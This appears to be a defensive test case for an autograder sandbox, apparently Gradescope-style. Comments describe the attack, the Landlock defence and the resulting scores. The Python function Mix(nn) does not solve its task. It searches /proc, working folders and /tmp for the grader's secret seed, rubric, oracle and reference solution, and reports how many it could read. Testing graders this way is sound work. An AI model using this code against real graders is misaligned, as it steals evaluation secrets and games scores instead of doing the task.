# attack: reads the secret seed, rubric, oracle and reference solution from every place they could be (paths from the grader's command line and working folder, the Gradescope layout, a search of /tmp)
# defence: as nn2student the source folder is 700 root; as a TA, Landlock leaves only Python, its packages and system folders readable, never the grader's package or checkout
# scores: Mix=0 Grad=12.5 FrobClassifier=0 MixClassifier=0
# message: Mix(nn) returned 1000 on
def Mix(nn):
    import os
    found = 0
    bases = ["/autograder/source", "/autograder/source/autograder"]
    try:
        args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace").split("\0")
        for a in args:
            if a.startswith("/"):
                d = a if os.path.isdir(a) else os.path.dirname(a)
                bases += [d, d + "/source", d + "/source/autograder", d + "/autograder", os.path.dirname(d)]
    except OSError:
        pass
    try:
        bases.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    for root, dirs, files in os.walk("/tmp"):
        if "secret_seed" in files or "rubric.toml" in files:
            bases.append(root)
    for b in bases:
        for name in ("secret_seed", "rubric.toml", "oracle.py", "hints.py", "autograder/secret_seed",
                     "reference/solution.py", "../reference/solution.py"):
            try:
                open(os.path.join(b, name)).read()
                found += 1
            except OSError:
                pass
    return 1000.0 + found
